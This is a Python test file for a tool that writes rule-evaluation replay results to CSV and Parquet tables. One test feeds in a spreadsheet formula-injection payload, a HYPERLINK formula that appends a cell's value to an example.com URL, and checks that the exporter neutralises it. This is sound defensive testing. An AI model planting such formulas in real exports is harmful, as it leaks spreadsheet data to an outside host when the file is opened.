"""The table of a replay of many runs."""

from __future__ import annotations

import csv

import pytest
from pyarrow import parquet
from tocsin.cli.replay_all import exit_code
from tocsin.cli.replay_table import COLUMNS, rows_of, write_tables


def rule(name: str, status: str, step: int | None = None, **more: object) -> dict[str, object]:
    return {
        "RuleConfigurationName": name,
        "RuleEvaluationStatus": status,
        "Severity": "warning",
        "StatusDetails": 'a "detail",\nof two lines',
        "FiredAt": None if step is None else {"step": step},
        "Violations": 0 if step is None else 3,
        **more,
    }


def result(rules: list[object], before: list[object]) -> dict[str, object]:
    return {"run": "s3://b/jobs/j1", "job": "j1", "rules": rules, "before": before}


@pytest.mark.parametrize(
    ("rules", "before", "expected"),
    [
        ([rule("A", "IssuesFound", 7)], [rule("A", "IssuesFound", 5)], [("A", 7, 5, False)]),
        ([rule("A", "NoIssuesFound")], [rule("A", "IssuesFound", 5)], [("A", None, 5, True)]),
        ([rule("A", "IssuesFound", 0)], [], [("A", 0, None, False)]),  # not evaluated before
        (
            [rule("A", "IssuesFound", 1)],
            [rule("B", "IssuesFound", 2)],
            [("A", 1, None, True), ("B", None, 2, True)],
        ),
        ([], [], []),
    ],
)
def test_a_row_for_each_rule_now_or_before(rules, before, expected):
    rows = list(rows_of(result(rules, before)))
    assert all(list(row) == list(COLUMNS) for row in rows)
    found = [(row["rule"], row["step"], row["step_before"], row["changed"]) for row in rows]
    assert found == expected


ROWS = list(rows_of(result([rule("A", "IssuesFound", 7)], [rule("B", "Error")])))


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
def test_no_cell_of_the_csv_is_a_formula(tmp_path, begin):
    text = f'{begin}HYPERLINK("https://example.com/?"&A2,"open")'
    named = {**result([rule(text, "IssuesFound", 7, StatusDetails=text)], []), "job": text}
    table, parquet_table = write_tables(list(rows_of(named)), tmp_path / "t")
    with table.open(newline="", encoding="utf-8") as file:
        (row,) = csv.DictReader(file)
    assert (row["rule"], row["job"], row["details"]) == (f"'{text}",) * 3
    assert row["step"] == "7"
    assert parquet.read_table(parquet_table).to_pylist()[0]["rule"] == text


def test_csv_has_every_cell(tmp_path):
    table, *_ = write_tables(ROWS, tmp_path / "v1.2")
    assert table == tmp_path / "v1.2.csv"
    with table.open(newline="") as file:
        first, second = csv.DictReader(file)
    assert (first["details"], first["step"], first["status_before"]) == (
        'a "detail",\nof two lines',
        "7",
        "",
    )
    assert (second["rule"], second["status"], second["changed"]) == ("B", "", "True")


def test_parquet_has_types_and_nulls(tmp_path):
    _, table = write_tables(ROWS, tmp_path / "table")
    assert parquet.read_table(table).to_pylist() == ROWS
    _, empty = write_tables([], tmp_path / "empty")
    assert parquet.read_table(empty).schema == parquet.read_table(table).schema


def test_without_pyarrow_there_is_no_parquet(tmp_path, monkeypatch):
    monkeypatch.setattr("tocsin.cli.replay_table.find_spec", lambda name: None)
    assert write_tables(ROWS, tmp_path / "table") == [tmp_path / "table.csv"]


@pytest.mark.parametrize(
    ("now", "failed", "judged", "code"),
    [(1, ["s3://b/r"], 1, 1), (0, [], 1, 0), (0, ["s3://b/r"], 1, 2), (0, [], 0, 2)],
)
def test_the_exit_code_says_what_was_found(now, failed, judged, code):
    assert exit_code({"rules": [{"now": now}], "failed": failed, "judged": judged}) == code
